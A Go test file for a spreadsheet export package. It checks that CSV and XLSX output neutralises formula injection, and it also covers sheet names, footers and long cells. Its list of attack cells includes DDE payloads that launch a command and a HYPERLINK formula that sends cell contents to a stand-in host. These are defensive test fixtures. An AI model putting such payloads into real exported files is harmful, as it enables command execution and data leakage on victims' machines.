package tabular_test

import (
	"bytes"
	"encoding/csv"
	"io"
	"slices"
	"strings"
	"testing"

	"causeway/internal/intake/sheet"
	"causeway/internal/web/tabular"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
)

// attacks are cells that spreadsheet programs have taken for formulas.
var attacks = []string{
	`=1+1`, `=HYPERLINK("http://x.example/?"&A1,"see")`, `=cmd|' /C calc'!A0`, `+1+1`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, "\u00a0=1+1", "\ufeff=1+1", `＝1+1`, `＋1`, `－1`, `＠SUM(1)`, `=`, `-`, `+33 1 23 45 67 89`,
}

// innocent are cells that stay as they are.
var innocent = []string{
	"", "Ilara Tesh", "نور الهدى", "2012-03-01", "a=b", "1-2", "‘quoted’", `say "yes", then go`, "two\nlines", "7KQM-T3XA-R", "_x000D_ is text", "<b>&amp;</b>", "'=1",
}

func TestNoCellOfATextFileIsAFormula(t *testing.T) {
	var b bytes.Buffer
	w, err := tabular.NewCSV(&b)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range append(append([]string{}, attacks...), innocent...) {
		if err := w.Row([]string{"x", s}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	text, ok := strings.CutPrefix(b.String(), "\ufeff")
	if !ok {
		t.Error("no byte order mark: spreadsheet programs would guess the encoding")
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, s := range attacks {
		got := strings.ReplaceAll(rows[i][1], "\r\n", "\n")
		if !strings.HasPrefix(got, "'") || tabular.Harmless(s) != "'"+s {
			t.Errorf("%q is written as %q, want an apostrophe before it", s, got)
		}
	}
	for i, s := range innocent {
		if got := rows[len(attacks)+i][1]; got != s {
			t.Errorf("%q is written as %q, want it unchanged", s, got)
		}
	}
}

func TestNoCellOfAWorkbookIsAFormula(t *testing.T) {
	var b bytes.Buffer
	book := tabular.NewBook(&b, "by A & B", true)
	cells := append(append([]string{}, attacks...), innocent...)
	for _, name := range []string{"Children", `a/b:c*d?e[f]'g and a name that is far too long`} {
		w, err := book.Sheet(name)
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range cells {
			if err := w.Row([]string{"x", s, "", "end"}); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := book.Close(); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), "<f>") {
		t.Error("the workbook has a formula")
	}
	// excelize reads it as others do.
	f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); len(got) != 2 || got[0] != "Children" || len([]rune(got[1])) > 31 {
		t.Errorf("sheets = %q", got)
	}
	for i, want := range cells {
		at, _ := excelize.CoordinatesToCellName(2, i+1)
		got, err := f.GetCellValue("Children", at)
		if err != nil {
			t.Fatal(err)
		}
		if want = strings.ReplaceAll(want, "\r", "\n"); strings.ReplaceAll(got, "\r", "\n") != want {
			t.Errorf("%s = %q, want %q", at, got, want)
		}
		if formula, _ := f.GetCellFormula("Children", at); formula != "" {
			t.Errorf("%s is the formula %q", at, formula)
		}
		if kind, _ := f.GetCellType("Children", at); want != "" && kind != excelize.CellTypeInlineString {
			t.Errorf("%s has type %v, want text", at, kind)
		}
	}
	if v, err := f.GetHeaderFooter("Children"); err != nil || v.OddFooter != "&Lby A && B" {
		t.Errorf("footer = %+v, %v", v, err)
	}
}

// TestOurOwnReaderReadsIt: what was taken out can be taken in.
func TestOurOwnReaderReadsIt(t *testing.T) {
	var b bytes.Buffer
	book := tabular.NewBook(&b, "", false)
	w, err := book.Sheet("S")
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"name", "note"}, {"نور", "=1+1"}, {"A", "_x000D_"}}
	for _, row := range want {
		if err := w.Row(row); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	r, err := sheet.Open(source{bytes.NewReader(b.Bytes())}, sheet.Options{Format: sheet.XLSX}, sheet.DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	var got [][]string
	for {
		row, err := r.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, slices.Clone(row.Cells))
	}
	if diff := cmp.Diff(got, want); diff != "" {
		t.Errorf("read back (-got +want):\n%s", diff)
	}
}

type source struct{ *bytes.Reader }

func TestLongTextsAreCut(t *testing.T) {
	var b bytes.Buffer
	w, err := tabular.NewBook(&b, "", false).Sheet("S")
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Row([]string{strings.Repeat("ا", 40_000)}); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	got, err := f.GetCellValue("S", "A1")
	if err != nil || len([]rune(got)) != 32_767 || !strings.HasSuffix(got, "…") {
		t.Errorf("cell of %d characters, %v, want 32,767 that end in an ellipsis", len([]rune(got)), err)
	}
}

func BenchmarkBook(b *testing.B) {
	row := []string{"7KQM-T3XA-R", "Ilara Tesh", "2012-03-01", "high", "registered", "Harbour Town team"}
	b.ReportAllocs()
	for b.Loop() {
		w, err := tabular.NewBook(io.Discard, "", false).Sheet("S")
		if err != nil {
			b.Fatal(err)
		}
		for range 10_000 {
			if err := w.Row(row); err != nil {
				b.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			b.Fatal(err)
		}
	}
}
